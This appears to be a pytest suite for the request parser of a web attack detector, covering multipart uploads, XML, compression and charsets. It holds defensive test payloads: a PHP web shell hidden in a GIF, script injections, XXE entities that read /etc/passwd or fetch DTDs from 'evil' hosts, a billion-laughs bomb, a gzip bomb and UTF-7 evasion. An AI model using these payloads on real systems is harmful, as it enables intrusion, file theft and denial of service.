
UPLOADS = [
    # (file content, text that must be in a part) an upload's text is seen wherever it is
    (
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00" + bytes(1100) + b"<?php system($_GET['c']); ?>",
        "<?php system($_GET['c']); ?>",
    ),
    # a run of text across the end of the head is taken whole
    (bytes(1020) + b"<?php system($_GET['c']); ?>" + bytes(10), "<?php system($_GET['c']); ?>"),
    # text far past the head
    (bytes(2000) + b"<script>alert(1)</script>", "<script>alert(1)</script>"),
]


@pytest.mark.parametrize(("content", "text"), UPLOADS)
def test_text_in_binary_uploads_is_seen(content: bytes, text: str) -> None:
    sample = _field(content, b'name="f"; filename="a.gif"')
    values = [v for slot, v, _ in _body_triples(extract(sample)) if slot == "multipart:f"]
    assert any(text in value for value in values)
    # bounded by the upload: a digest of the binary, not a copy of it
    assert sum(len(value) for value in values) < 1024 + len(content) // 4


def test_text_in_base64_uploads_is_seen() -> None:
    content = base64.b64encode(bytes(2000) + b"<script>alert(1)</script>")
    body = (
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + content + b"\r\n--b--\r\n"
    )
    extraction = extract(_post(body, "multipart/form-data; boundary=b"))
    assert ("multipart:f", "<script>alert(1)</script>", B) in _triples(extraction)


def test_multipart_lines_that_only_start_with_the_boundary_are_content() -> None:
    body = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--bb\r\ny\r\n--b--'
    extraction = extract(_post(body, "multipart/form-data; boundary=b"))
    assert ("multipart:a", "x\r\n--bb\r\ny", B) in _triples(extraction)


BAD_MULTIPART = [
    # (content type, body) each is malformed: flagged, and scanned whole as RAW
    ("multipart/form-data", b"--x\r\n\r\nv\r\n--x--"),  # no boundary parameter
    ("multipart/form-data; boundary=" + "b" * 71, b"--b\r\n\r\nv\r\n--b--"),  # too long
    ("multipart/form-data; boundary=x", b"just text"),  # boundary never found
    # a line in the header block that is no header: content to some other parser
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Type: text/plain\r\n<script>\r\n--x--"),
    (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n<x>',
    ),
]


@pytest.mark.parametrize(("content_type", "body"), BAD_MULTIPART)
def test_malformed_multipart(content_type: str, body: bytes) -> None:
    extraction = extract(_post(body, content_type))
    assert extraction.malformed
    assert _rules(extraction)["body.multipart"] == "attack.malformed"
    assert ("body", body.decode(), R) in _triples(extraction)


def test_multipart_parts_may_lack_headers_or_content() -> None:
    body = b'--x\r\n\r\nbare\r\n--x\r\nContent-Disposition: form-data; name="e"\r\n--x--'
    extraction = extract(_post(body, "multipart/mixed; boundary=x"))
    assert _body_triples(extraction) == [
        ("multipart:#0", "bare", B),
        ("multipart-key:e", "e", K),
        ("multipart:e", "", B),
    ]
    assert not extraction.malformed


def test_unterminated_multipart_keeps_the_fields_it_read() -> None:
    body = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n<script>'
    extraction = extract(_post(body, "multipart/form-data; boundary=x"))
    assert ("multipart:a", "<script>", B) in _triples(extraction)


def test_truncated_multipart_is_not_malformed() -> None:
    body = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + b"v" * 200 + b"\r\n--x--"
    extraction = extract(_post(body, "multipart/form-data; boundary=x"), body_limit=100)
    assert not extraction.malformed
    assert "body.truncated" in _rules(extraction)


# --- XML ------------------------------------------------------------------------------


def test_xml_text_and_attributes() -> None:
    body = (
        b'<?xml version="1.0"?><order id="7&lt;"><item sku="a">one &amp; <b>two</b>'
        b" three</item><![CDATA[<raw>]]><?php echo 1; ?><!-- esi --></order>"
    )
    extraction = extract(_post(body, "application/soap+xml; charset=utf-8"))
    assert _body_triples(extraction) == [
        ("xml:/order/@id", "7<", B),
        ("xml:/order/item/@sku", "a", B),
        ("xml:/order/item", "one & ", B),
        ("xml:/order/item/b", "two", B),
        ("xml:/order/item", " three", B),
        ("xml:/order", "<raw>", B),
        ("xml:/order/?php", "echo 1; ", B),
        ("xml:/order/#comment", " esi ", B),
    ]
    assert not extraction.findings


XXE = [
    # (body, rules found)
    # a DOCTYPE alone
    (b"<!DOCTYPE r><r>x</r>", {"xml.doctype"}),
    # an external DTD: nothing is fetched
    (b'<!DOCTYPE r SYSTEM "http://evil/x.dtd"><r>x</r>', {"xml.doctype", "xml.external_entity"}),
    # an internal entity
    (b'<!DOCTYPE r [<!ENTITY e "v">]><r>&e;</r>', {"xml.doctype", "xml.entity"}),
    # an external entity, the classic file read
    (
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        {"xml.doctype", "xml.external_entity"},
    ),
    # a parameter entity, the out-of-band variant
    (
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><r/>',
        {"xml.doctype", "xml.external_entity"},
    ),
]


@pytest.mark.parametrize(("body", "rules"), XXE)
def test_xml_doctype_and_entities(body: bytes, rules: set[str]) -> None:
    extraction = extract(_post(body, "text/xml"))
    assert _rules(extraction) == dict.fromkeys(rules, "attack.xxe")
    severities = {f.rule: f.severity for f in extraction.findings}
    assert severities["xml.doctype"] == "error"
    assert all(severities[rule] == "critical" for rule in rules - {"xml.doctype"})
    (doctype,) = [value for slot, value, _ in _triples(extraction) if slot == "xml:!doctype"]
    assert doctype.startswith("<!DOCTYPE r") and doctype.endswith(">")
    assert doctype in body.decode()
    assert not extraction.malformed


def test_xml_entities_are_never_expanded() -> None:
    body = b'<!DOCTYPE r [<!ENTITY e "EXPANDED">]><r a="&e;">&e;</r>'
    extraction = extract(_post(body, "application/xml"))
    assert all(
        "EXPANDED" not in value or slot in ("xml:!doctype", "body")
        for slot, value, _ in _triples(extraction)
    )
    assert ("body", body.decode(), R) in _triples(extraction)


def _billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    doctype = f"<!DOCTYPE lolz [{''.join(entities)}]>"
    return f'<?xml version="1.0"?>{doctype}<lolz a="&lol9;">&lol9;</lolz>'.encode()


def test_billion_laughs_does_not_expand() -> None:
    started = time.perf_counter()
    body = _billion_laughs()
    extraction = extract(_post(body, "application/xml"))
    elapsed = time.perf_counter() - started
    assert elapsed < 0.5  # expanded, it would be three gigabytes
    assert sum(len(part.value) for part in extraction.parts) < 4 * len(body)
    assert {"xml.doctype", "xml.entity"} <= set(_rules(extraction))


MALFORMED_XML = [
    # (body) each is not well-formed XML
    b"<a><b></a>",
    b"<a>&undefined;</a>",
    b"not xml at all",
    b"<a>\xff</a>",
]


@pytest.mark.parametrize("body", MALFORMED_XML)
def test_malformed_xml(body: bytes) -> None:
    extraction = extract(_post(body, "application/xml"))
    assert extraction.malformed
    assert _rules(extraction)["body.xml"] == "attack.malformed"
    assert ("body", body.decode("utf-8", "replace"), R) in _triples(extraction)


def test_deep_xml_keeps_its_text() -> None:
    body = b"<a>" * 50 + b"<!--x-->deep" + b"</a>" * 50
    extraction = extract(_post(body, "application/xml"), max_depth=4)
    assert ("xml:/a/a/a/a", "deep", B) in _triples(extraction)
    assert "body.depth" in _rules(extraction)


def test_truncated_xml_is_not_malformed() -> None:
    body = b"<a>" + b"<b>x</b>" * 50 + b"</a>"
    extraction = extract(_post(body, "application/xml"), body_limit=100)
    assert not extraction.malformed
    assert "body.truncated" in _rules(extraction)
    assert ("xml:/a/b", "x", B) in _triples(extraction)


# --- encodings and charsets -----------------------------------------------------------

JSON_BODY = b'{"q": "<script>"}'
JSON_PARTS = [("json-key:q", "q", K), ("json:q", "<script>", B)]


def _raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


CONTENT_ENCODINGS = [
    # (Content-Encoding, body) each decodes to JSON_BODY
    ("gzip", gzip.compress(JSON_BODY)),
    ("x-gzip", gzip.compress(JSON_BODY)),
    ("deflate", zlib.compress(JSON_BODY)),
    # raw deflate, sent by some clients for `deflate`
    ("deflate", _raw_deflate(JSON_BODY)),
    # stacked codings are undone last first
    ("deflate, gzip", gzip.compress(zlib.compress(JSON_BODY))),
    ("identity", JSON_BODY),
    # concatenated gzip members are all read
    ("gzip", gzip.compress(JSON_BODY[:6]) + gzip.compress(JSON_BODY[6:])),
]


@pytest.mark.parametrize(("coding", "body"), CONTENT_ENCODINGS)
def test_content_encoding(coding: str, body: bytes) -> None:
    extraction = extract(_post(body, "application/json", ("Content-Encoding", coding)))
    assert _body_triples(extraction) == JSON_PARTS
    assert not extraction.findings


BAD_ENCODINGS = [
    # (Content-Encoding, body) each is flagged and the bytes as sent are still scanned
    ("br", b"<script>"),  # not decoded here
    ("compress", b"<script>"),
    ("gzip", b"<script>"),  # not gzip at all
    ("gzip", gzip.compress(JSON_BODY) + b"<script>"),  # trailing garbage
    ("gzip, gzip, gzip, gzip", b"<script>"),  # too many layers
]


@pytest.mark.parametrize(("coding", "body"), BAD_ENCODINGS)
def test_bad_content_encoding(coding: str, body: bytes) -> None:
    extraction = extract(_post(body, "application/json", ("Content-Encoding", coding)))
    assert _rules(extraction)["protocol.content_encoding"] == "attack.protocol"
    assert ("body", body.decode("utf-8", "replace"), R) in _triples(extraction)


def test_gzip_that_breaks_late_keeps_what_it_decoded() -> None:
    packed = bytearray(gzip.compress(b"<script>" + bytes(40_000)))
    packed[-5] ^= 0xFF  # the length in the trailer no longer matches
    extraction = extract(_post(bytes(packed), "text/plain", ("Content-Encoding", "gzip")))
    assert "protocol.content_encoding" in _rules(extraction)
    assert any(v.startswith("<script>") for _, v, _ in _body_triples(extraction))


def test_gzip_bomb_is_bounded() -> None:
    bomb = gzip.compress(b"A" * 50_000_000, compresslevel=9)
    extraction = extract(_post(bomb, "text/plain", ("Content-Encoding", "gzip")), body_limit=65_536)
    assert _body_triples(extraction) == [("body", "A" * 65_536, R)]


def test_gzip_that_ends_early_is_flagged() -> None:
    packed = gzip.compress(JSON_BODY)[:-12]
    extraction = extract(_post(packed, "application/json", ("Content-Encoding", "gzip")))
    assert "protocol.content_encoding" in _rules(extraction)
    assert not extraction.malformed


CHARSETS = [
    # (content type, body, rule severity or None, JSON parts expected)
    # UTF-7 hides `<` from byte filters: decoded, and flagged
    ("application/json; charset=utf-7", b'{"q": "+ADw-script+AD4-"}', "error"),
    # EBCDIC
    ("application/json; charset=ibm500", JSON_BODY.decode().encode("cp500"), "error"),
    ("application/json; charset=cp037", JSON_BODY.decode().encode("cp037"), "error"),
    # UTF-32 declared
    ('application/json; charset="UTF-32"', JSON_BODY.decode().encode("utf-32"), "error"),
    # UTF-16 without a declaration, told by its NULs (RFC 4627), and by a BOM
    ("application/json", JSON_BODY.decode().encode("utf-16-le"), "warning"),
    ("application/json", JSON_BODY.decode().encode("utf-16"), "warning"),
    # ordinary charsets are not findings; a UTF-8 BOM is allowed
    ("application/json; charset=UTF-8", JSON_BODY, None),
    ("application/json; charset=latin1", JSON_BODY, None),
    ("application/json", b"\xef\xbb\xbf" + JSON_BODY, None),
    ("application/json; charset=utf-8", b"\xef\xbb\xbf" + JSON_BODY, None),
]


@pytest.mark.parametrize(("content_type", "body", "severity"), CHARSETS)
def test_charsets(content_type: str, body: bytes, severity: str | None) -> None:
    extraction = extract(_post(body, content_type))
    assert _body_triples(extraction) == JSON_PARTS
    found = {f.rule: f for f in extraction.findings}
    if severity is None:
        assert found == {}
    else:
        assert (found["protocol.charset"].kind, found["protocol.charset"].severity) == (
            "attack.protocol",
            severity,
        )


def test_unknown_charset_falls_back_to_utf8() -> None:
    extraction = extract(_post(JSON_BODY, "application/json; charset=x-made-up-" + "z" * 500))
    assert _body_triples(extraction) == JSON_PARTS
    assert [(f.rule, f.severity) for f in extraction.findings] == [("protocol.charset", "warning")]


def test_non_text_codecs_are_not_charsets() -> None:
    body = base64.b64encode(JSON_BODY)
    extraction = extract(_post(body, "text/plain; charset=base64"))
    assert _body_triples(extraction) == [("body", body.decode(), R)]
    assert "protocol.charset" in _rules(extraction)


def test_xml_declared_encoding_is_honoured_and_flagged() -> None:
    body = b'<?xml version="1.0" encoding="UTF-7"?><r>+ADw-s+AD4-alert(1)+ADw-/s+AD4-</r>'
    extraction = extract(_post(body, "application/xml"))
    # the markup hidden in UTF-7 is markup once decoded, as a UTF-7 aware parser sees it
    assert ("xml:/r/s", "alert(1)", B) in _triples(extraction)
    assert "protocol.charset" in _rules(extraction)


LONE_SURROGATE_UTF7 = [
    # (content type, body) UTF-7 can encode half a surrogate pair, which UTF-8 cannot
    ("application/xml; charset=utf-7", b"<r>+2AA-</r>"),
    ("application/json; charset=utf-7", b'{"a": "+2AA-"}'),
    ("application/x-www-form-urlencoded; charset=utf-7", b"a=+2AA-"),
    (
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+2AA-\r\n--b--",
    ),
    ("text/plain; charset=utf-7", b"+2AA-"),
]


@pytest.mark.parametrize(("content_type", "body"), LONE_SURROGATE_UTF7)
def test_lone_surrogates_from_utf7(content_type: str, body: bytes) -> None:
    extraction = extract(_post(body, content_type))
    assert "protocol.charset" in _rules(extraction)
    assert any("\ud800" in part.value for part in extraction.parts)


def test_xml_in_utf16() -> None:
    body = "<r a='é'>ü</r>".encode("utf-16")
    extraction = extract(_post(body, "application/xml"))
    assert _body_triples(extraction) == [("xml:/r/@a", "é", B), ("xml:/r", "ü", B)]


# --- limits and findings --------------------------------------------------------------


def test_parts_limit() -> None:
    body = orjson.dumps({f"k{i}": "v" for i in range(100)})
    extraction = extract(_post(body, "application/json"), max_parts=10)
    assert len(extraction.parts) == 10
    finding = next(f for f in extraction.findings if f.rule == "parts.limit")
    assert (finding.kind, finding.severity) == ("attack.protocol", "notice")


def test_long_names_are_cut_in_slots_only() -> None:
    key = "k" * 10_000
    extraction = extract(HttpSample("GET", "/", f"{key}=v"))
    slot, value, _ = _triples(extraction)[1]
    assert value == key
    assert len(slot) < 200


def test_long_names_stay_distinct_in_slots() -> None:
    first, second = "k" * 200 + "1", "k" * 200 + "2"
    extraction = extract(_post(orjson.dumps({first: "a", second: "b"}), "application/json"))
    keys = [(slot, value) for slot, value, kind in _triples(extraction) if kind is K]
    assert [value for _, value in keys] == [first, second]
    assert keys[0][0] != keys[1][0]


def test_findings_score_their_severity() -> None:
    body = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r/>'
    extraction = extract(_post(body, "text/xml; charset=utf-7"))
    assert extraction.findings
    for finding in extraction.findings:
        assert finding.score == float(Severity.points(finding.severity))
        assert finding.location is not None and finding.evidence is not None
        assert finding.reason


# --- any input ------------------------------------------------------------------------

CONTENT_TYPES = [
    "application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=b",
    'multipart/mixed; boundary="a b"',
    "application/xml",
    "application/graphql",
    "text/plain; charset=utf-16",
    "application/json; charset=utf-7",
    "application/xml; charset=cp500",
    "application/xml; charset=utf-7",
    "application/x-www-form-urlencoded; charset=utf-16",
    None,
]

UNSPLIT = (None, "application/graphql", "text/plain; charset=utf-16")

_byte_soup = st.one_of(
    st.binary(max_size=2_000),
    # fragments of real syntax make the parsers go further than random bytes do
    st.lists(
        st.sampled_from(
            [
                b"{",
                b"}",
                b"[",
                b"]",
                b'"',
                b":",
                b",",
                b"\\",
                b"<",
                b">",
                b"/",
                b"!",
                b"&",
                b"%",
                b"=",
                b";",
                b"--b",
                b"\r\n",
                b"\n",
                b"<!DOCTYPE",
                b"<!ENTITY",
                b"#json",
                b'name="',
                b"Content-Disposition: form-data; ",
                b"\x00",
                b"\xff",
                b"a",
                b" ",
                b"Content-Transfer-Encoding: base64",
                b"<?xml",
                b"]]>",
                b"<![CDATA[",
                b"+2AA-",
                b"charset=utf-7",
                b"%C0",
            ]
        ),
        max_size=200,
    ).map(b"".join),
)


@settings(max_examples=300, deadline=None)
@given(
    body=_byte_soup,
    content_type=st.sampled_from(CONTENT_TYPES),
    coding=st.sampled_from([None, "gzip", "deflate", "br", "gzip, deflate"]),
    compress=st.booleans(),
)
def test_any_body_gives_an_extraction(
    body: bytes, content_type: str | None, coding: str | None, compress: bool
) -> None:
    headers: tuple[tuple[str, str], ...] = ()
    if coding is not None:
        headers = (("Content-Encoding", coding),)
        if compress and coding == "gzip":
            body = gzip.compress(body)
    extraction = extract(_post(body, content_type, *headers), body_limit=1_500, max_parts=500)
    assert isinstance(extraction, Extraction)
    assert len(extraction.parts) <= 500
    if any(f.rule == "parts.limit" for f in extraction.findings):
        return
    # nothing passes uninspected: a body that does not split is scanned whole
    if extraction.malformed:
        assert any(part.slot == "body" and part.kind is R for part in extraction.parts)
    if body and coding is None and content_type in UNSPLIT:
        assert _body_triples(extraction)


@settings(max_examples=300, deadline=None)
@given(
    path=st.text(max_size=200),
    query=st.text(max_size=300),
    headers=st.lists(st.tuples(st.text(max_size=30), st.text(max_size=200)), max_size=12),
    body=st.binary(max_size=300),
)
def test_any_request_gives_an_extraction(
    path: str, query: str, headers: list[tuple[str, str]], body: bytes
) -> None:
    extraction = extract(HttpSample("POST", path, query, tuple(headers), body))
    assert isinstance(extraction, Extraction)
    assert extraction.parts[0].slot == "path"


ADVERSARIAL = [
    # (content type, body) shapes that make naive parsers quadratic or deep
    ("application/json", b"[" * 100_000),
    ("application/json", b'{"a":' * 50_000),
    ("application/x-www-form-urlencoded", b"&" * 130_000),
    ("application/x-www-form-urlencoded", b"a=%" * 40_000),
    ("multipart/form-data; boundary=b", b"\n--b" * 30_000),
    ("multipart/form-data; boundary=b", b"--b\r\n" + b"\n--bX" * 25_000),
    ("application/xml", b"<a>" * 40_000),
    ("application/xml", b"<a " + b'b="1" ' * 20_000 + b"/>"),
    ("text/plain", bytes(131_072)),
    # cut at the limit, then closed and walked
    ("application/json", b"[" + b"1," * 70_000),
    ("application/json", b"[" + b'"x",' * 40_000),
    ("application/json", b"[" + b"[1,[2,[3]]]," * 13_000),
    ("application/json", b"[" * 200_000),
    ("application/json", b'{"a":' * 40_000),
    ("application/json", b'["' + b"\\" * 140_000),
    ("application/json", b'["' + b'\\"' * 70_000),
    ("application/json", b"{" + b'"a":"x","a":"x",' * 10_000),
    ("text/plain", b'[{"a":[' * 30_000),
    # repeated keys, parsed again to find them
    ("application/json", b"{" + b'"a":"x",' * 16_000 + b'"a":"x"}'),
    ("application/json", b"[" + b'{"a":{"a":"x","a":"x"},"a":1},' * 4_000 + b"1]"),
    # uploads of binary
    (
        "multipart/form-data; boundary=b",
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n'
        + b"\x00ab\x00abcd" * 14_000,
    ),
    (
        "multipart/form-data; boundary=b",
        b'--b\r\nContent-Disposition: form-data; name="f"\r\n\r\n' + bytes(131_000),
    ),
]


@pytest.mark.parametrize(("content_type", "body"), ADVERSARIAL)
def test_adversarial_bodies_are_fast(content_type: str, body: bytes) -> None:
    started = time.perf_counter()
    extract(_post(body, content_type))
    assert time.perf_counter() - started < 1.0


def test_adversarial_content_type_parameters_are_fast() -> None:
    header = "multipart/form-data" + '; a="x\\' * 20_000
    started = time.perf_counter()
    extract(_post(b"--x--", header))
    assert time.perf_counter() - started < 1.0
